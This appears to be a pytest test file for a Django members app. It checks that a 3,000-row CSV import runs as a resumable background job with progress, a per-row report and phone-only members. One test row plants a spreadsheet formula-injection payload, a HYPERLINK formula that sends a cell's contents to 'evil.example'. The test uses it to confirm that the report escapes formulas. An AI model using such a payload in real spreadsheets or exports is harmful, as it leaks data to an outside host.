"""Issue 14, item 10: the admin import runs as a job, with progress, a report, and phone-only members.

The upload used to import inside the request (3,000 rows: 23 s, near the server timeout).
Now the request checks the file's bounds, stores it privately and answers at once with the
job's page; a worker imports it in chunks that record progress; the page refreshes itself
(no script) until the job ends; the report lists every row. Rows with only a phone number
become members without a login, who get an invitation once a coordinator adds an email.
"""

import csv
import io
import re
from datetime import timedelta
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from members import accounts, imports
from members import tasks as member_tasks
from members.models import ImportJob, ImportRow, Member, User
from tasks.models import Notification

pytestmark = pytest.mark.django_db

HEADER = ["Nama Lengkap", "Email", "No HP", "Kecamatan", "Desa", "JK", "Tgl Lahir", "Jenjang", "Pekerjaan"]
NAMES = ["Nur'aini", "Muhammad Jum'at", "Siti Khadijah Al-Ma'arif", "Fauzi Hasibuan", "Dewi Ariani"]
DISTRICTS = ["Talawi", "Tanjung Tiram", "Lima Puluh Pesisir", "Sei Balai"]
ROWS = 3000


def generated_row(n: int) -> list:
    """Row n (1-based data row; sheet row n + 1): every 10th phone-only, every 50th invalid."""
    phone = f"+62 813 {n:04d} {n % 10000:04d}" if n % 2 else f"0813-{n:04d}-{n % 10000:04d}"
    email = "" if n % 10 == 0 else f"kader{n}@example.org"
    if n % 50 == 7:
        phone = "12"  # not a number
    name = f"{NAMES[n % len(NAMES)]} {n}"
    if n == 3:
        name = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    district = DISTRICTS[n % len(DISTRICTS)]
    return [name, email, phone, district, "Labuhan Ruku", "P" if n % 2 else "L", "17/05/1990", "PKD", "Nelayan"]


def generated_csv(rows: int = ROWS) -> SimpleUploadedFile:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";")  # as Excel set to Indonesian saves it
    writer.writerow(HEADER)
    writer.writerows(generated_row(n) for n in range(1, rows + 1))
    return SimpleUploadedFile("anggota Ma'had Al-Ma'arif.csv", buffer.getvalue().encode("utf-8-sig"))


def report_of(client, job) -> list[list[str]]:
    response = client.get(reverse("members_import_report", args=[job.pk]))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def test_three_thousand_rows_as_a_job_with_progress_and_a_report(
    coordinator_client, django_capture_on_commit_callbacks
):
    # No worker runs here (the job's task is queued on commit, and the test never commits):
    # what a coordinator sees in production while the worker has not got to the job.
    response = coordinator_client.post(reverse("members_import"), {"file": generated_csv()})
    job = ImportJob.objects.get()
    assert response.status_code == 302 and response["Location"] == reverse("members_import_job", args=[job.pk])
    assert Member.objects.filter(full_name__startswith="Nur'aini").count() == 0  # nothing imported in the request
    assert job.state == "queued" and job.total == ROWS and job.processed == 0
    stored = Path(job.file.path)
    assert stored.is_file() and not stored.is_relative_to(Path(settings.MEDIA_ROOT))  # never under /media/

    page = coordinator_client.get(response["Location"]).content.decode()
    assert re.search(r'<meta http-equiv="refresh" content="\d+">', page)
    assert "Menunggu" in page and "0 dari 3000 baris" in page

    # The worker, half-way: three chunks done.
    imports.import_job_run(job_id=job.pk, max_chunks=3)
    page = coordinator_client.get(reverse("members_import_job", args=[job.pk])).content.decode()
    done = 3 * imports.CHUNK_ROWS
    assert f"{done} dari 3000 baris" in page and f'value="{done}"' in page and "<meta http-equiv" in page
    listing = coordinator_client.get(reverse("members_import_jobs")).content.decode()
    assert "anggota Ma&#x27;had Al-Ma&#x27;arif.csv" in listing and "Berjalan" in listing

    with django_capture_on_commit_callbacks(execute=True):  # the file goes once the end is committed
        member_tasks.run_import_job(job.pk)  # the rest, as the worker's task does it
    job.refresh_from_db()
    assert job.state == "finished" and job.processed == ROWS and not job.file and not stored.exists()
    invalid = len([n for n in range(1, ROWS + 1) if n % 50 == 7])
    phone_only = len([n for n in range(1, ROWS + 1) if n % 10 == 0 and n % 50 != 7])
    assert job.refused == invalid and job.created == ROWS - invalid and job.skipped == job.updated == 0
    page = coordinator_client.get(reverse("members_import_job", args=[job.pk])).content.decode()
    assert "<meta http-equiv" not in page and "Impor selesai" in page

    lines = report_of(coordinator_client, job)
    assert lines[0] == ["Baris", "Nama", "Hasil", "Alasan"] and len(lines) == ROWS + 1
    by_row = {int(line[0]): line for line in lines[1:]}
    assert by_row[2][1:3] == ["Muhammad Jum'at 1", "dibuat"]
    assert by_row[3][1:3] == ["Siti Khadijah Al-Ma'arif 2", "dibuat"]
    assert by_row[4][1].startswith("'=HYPERLINK")  # a formula is shown as text, never run
    assert by_row[8][2] == "ditolak" and "“12”" in by_row[8][3]  # row 8 = data row 7
    assert by_row[11][2] == "dibuat" and "tanpa login" in by_row[11][3]  # data row 10: phone only

    # Phone-only rows: verified members without a login, counted like any member.
    members_without_login = Member.objects.filter(user__isnull=True, anonymised_at__isnull=True)
    assert members_without_login.count() == phone_only
    member = members_without_login.get(full_name=f"{NAMES[0]} 10")
    assert (
        member.phone == "+6281300100010" and member.status == "active" and member.district.name == "Lima Puluh Pesisir"
    )
    assert Notification.objects.filter(kind="member_invitation").count() == ROWS - invalid - phone_only


def test_the_same_file_twice_skips_and_a_phone_only_member_gets_the_email_added_later(coordinator_client):
    first = imports.import_job_create(upload=generated_csv(20), dry_run=False, by=None)
    imports.import_job_run(job_id=first.pk)
    member = Member.objects.get(full_name=f"{NAMES[0]} 10")
    assert member.user is None
    # The branch found Nur'aini's email: the same file, now with it, updates her and invites her.
    rows = [generated_row(n) for n in range(1, 21)]
    rows[9][1] = "nuraini.10@example.org"
    buffer = io.StringIO()
    csv.writer(buffer).writerows([HEADER, *rows])
    second = imports.import_job_create(
        upload=SimpleUploadedFile("lagi.csv", buffer.getvalue().encode()), dry_run=False, by=None
    )
    imports.import_job_run(job_id=second.pk)
    second.refresh_from_db()
    assert (second.created, second.updated, second.refused) == (0, 1, 1) and second.skipped == 18
    member.refresh_from_db()
    assert member.user.email == "nuraini.10@example.org"
    assert Notification.objects.filter(kind="member_invitation", recipient="nuraini.10@example.org").count() == 1
    by_row = {line[0]: line for line in report_of(coordinator_client, second)}
    assert by_row["11"][1:3] == ["Nur'aini 10", "diperbarui"]


def test_a_coordinator_adds_an_email_and_the_invitation_is_mailed(
    coordinator_client, staff_user, smtp_server, django_capture_on_commit_callbacks, make_training
):
    job = imports.import_job_create(upload=generated_csv(10), dry_run=False, by=staff_user)
    imports.import_job_run(job_id=job.pk)
    member = Member.objects.get(full_name=f"{NAMES[0]} 10")
    listing = coordinator_client.get(reverse("wagtailsnippets_members_member:list") + "?q=Nur").content.decode()
    assert "Nur&#x27;aini 10" in listing  # listed like any member

    assert reverse("members_member_email", args=[member.pk]) in listing  # its "Add email" button

    url = reverse("members_member_email", args=[member.pk])
    page = coordinator_client.get(url).content.decode()
    assert 'name="email"' in page and "belum punya login" in page and "+6281300100010" in page
    with django_capture_on_commit_callbacks(execute=True):
        response = coordinator_client.post(url, {"email": "Nuraini.Siregar@Example.org"})
    assert response.status_code == 302
    member.refresh_from_db()
    assert member.user.email == "nuraini.siregar@example.org"
    [mail] = [message for message in smtp_server.messages if message["To"] == "nuraini.siregar@example.org"]
    text = mail.get_body(("plain",)).get_content()
    assert "Nur'aini 10" in text and re.search(r"/akun/password/reset/key/\S+/", text)
    assert coordinator_client.get(url).status_code == 404  # she has a login now

    # The same address for another member without a login: refused with a message, nothing written.
    other = Member.objects.create(full_name="Jum'at Tanpa Login", phone="+6281370000001", status=Member.Status.ACTIVE)
    response = coordinator_client.post(
        reverse("members_member_email", args=[other.pk]), {"email": "nuraini.siregar@example.org"}
    )
    assert response.status_code == 400 and "sudah dipakai" in response.content.decode()
    other.refresh_from_db()
    assert other.user is None

    # Verified, suspended and checked in like any member.
    assert accounts.member_suspend(member=other, by=staff_user) and accounts.member_verify(member=other, by=staff_user)
    from members import enrollment

    other.gender, other.birth_date, other.village, other.occupation = "male", timezone.localdate(), "Perupuk", "Nelayan"
    other.birth_date = other.birth_date.replace(year=1990)
    other.district = member.district
    other.privacy_agreed_at = timezone.now()  # agreed on the paper form at the venue
    other.save()
    training = make_training(title="Pelatihan Kopi & Kue", capacity=5)
    entry = enrollment.enroll(member=other, training=training)
    # The training is days away, so the check-in asks twice (a coordinator's day, item 6).
    response = coordinator_client.post(reverse("members_checkin", args=[entry.token]), {"outside_window": "1"})
    assert response.status_code == 200
    entry.refresh_from_db()
    assert entry.attended


def test_a_file_over_the_bounds_is_refused_at_upload_and_no_job_is_queued(coordinator_client):
    rows = "".join(f"Kader {i};0812{i:07d}\n" for i in range(imports.MAX_DATA_ROWS + 1))
    upload = SimpleUploadedFile("besar.csv", ("nama;telepon\n" + rows).encode())
    private = Path(settings.STORAGES["private"]["OPTIONS"]["location"])
    stored_before = set(private.rglob("*"))
    response = coordinator_client.post(reverse("members_import"), {"file": upload})
    assert response.status_code == 400 and "10000" in response.content.decode()
    assert not ImportJob.objects.exists() and set(private.rglob("*")) == stored_before


def test_a_job_whose_worker_died_resumes_where_it_stopped(django_capture_on_commit_callbacks):
    job = imports.import_job_create(upload=generated_csv(700), dry_run=False, by=None)
    imports.import_job_run(job_id=job.pk, max_chunks=2)  # then the worker was killed
    assert member_tasks.resume_import_jobs() == 0  # still fresh: its worker may be alive
    ImportJob.objects.filter(pk=job.pk).update(heartbeat_at=timezone.now() - timedelta(minutes=11))
    with django_capture_on_commit_callbacks(execute=True):
        assert member_tasks.resume_import_jobs() == 1
    job.refresh_from_db()
    assert job.state == "finished" and job.processed == 700 and job.attempts == 2
    assert ImportRow.objects.filter(job=job).count() == 700  # no row twice
    assert User.objects.filter(email__startswith="kader").count() == job.created - 70  # the phone-only have none


def test_a_job_that_keeps_dying_is_marked_failed_not_stuck(coordinator_client, django_capture_on_commit_callbacks):
    job = imports.import_job_create(upload=generated_csv(10), dry_run=False, by=None)
    stored = Path(job.file.path)
    ImportJob.objects.filter(pk=job.pk).update(state="running", attempts=imports.MAX_ATTEMPTS)
    with django_capture_on_commit_callbacks(execute=True):
        imports.import_job_run(job_id=job.pk)
    job.refresh_from_db()
    assert job.state == "failed" and not job.file and not stored.exists()
    page = coordinator_client.get(reverse("members_import_job", args=[job.pk])).content.decode()
    assert "Impor gagal" in page and "<meta http-equiv" not in page


@pytest.mark.parametrize("role", ["editor", "member"])
def test_only_those_who_may_import_see_jobs(client, roles, role):
    job = imports.import_job_create(upload=generated_csv(5), dry_run=False, by=roles.coordinator)
    imports.import_job_run(job_id=job.pk)
    client.force_login(getattr(roles, role))
    for url in (
        reverse("members_import_jobs"),
        reverse("members_import_job", args=[job.pk]),
        reverse("members_import_report", args=[job.pk]),
    ):
        response = client.get(url)
        assert response.status_code in (302, 403), url
        assert b"Nur'aini" not in response.content


def test_a_coordinator_sees_every_coordinators_jobs(client, roles, django_user_model):
    from django.contrib.auth.models import Group

    job = imports.import_job_create(upload=generated_csv(5), dry_run=True, by=roles.superuser)
    other = django_user_model.objects.create_user(email="pac.talawi@example.org", password="x", is_staff=True)
    other.groups.add(Group.objects.get(name="Koordinator"))
    client.force_login(other)
    assert client.get(reverse("members_import_job", args=[job.pk])).status_code == 200
    assert "anggota Ma&#x27;had" in client.get(reverse("members_import_jobs")).content.decode()


def test_a_report_naming_people_is_deleted_thirty_days_after_its_job(coordinator_client):
    """The report lists every person of the file; a month after the import it is gone, the counts stay."""
    old = imports.import_job_create(upload=generated_csv(10), dry_run=False, by=None)
    imports.import_job_run(job_id=old.pk)
    recent = imports.import_job_create(upload=generated_csv(5), dry_run=False, by=None)
    imports.import_job_run(job_id=recent.pk)
    ImportJob.objects.filter(pk=old.pk).update(finished_at=timezone.now() - timedelta(days=31))
    ImportJob.objects.filter(pk=recent.pk).update(finished_at=timezone.now() - timedelta(days=29))

    assert member_tasks.expire_import_reports() == 10

    assert not ImportRow.objects.filter(job=old).exists() and ImportRow.objects.filter(job=recent).count() == 5
    page = coordinator_client.get(reverse("members_import_job", args=[old.pk])).content.decode()
    assert "dihapus 30 hari setelah impor selesai" in page and "Nur&#x27;aini" not in page
    assert reverse("members_import_report", args=[old.pk]) not in page
    assert coordinator_client.get(reverse("members_import_report", args=[old.pk])).status_code == 404
    kept = ImportJob.objects.get(pk=old.pk)
    assert (kept.processed, kept.created + kept.skipped + kept.refused) == (10, 10)  # the counts stay
    assert (
        "Laporan dihapus 30 hari setelah impor selesai."
        in coordinator_client.get(reverse("members_import_job", args=[recent.pk])).content.decode()
    )
    assert len(report_of(coordinator_client, recent)) == 6
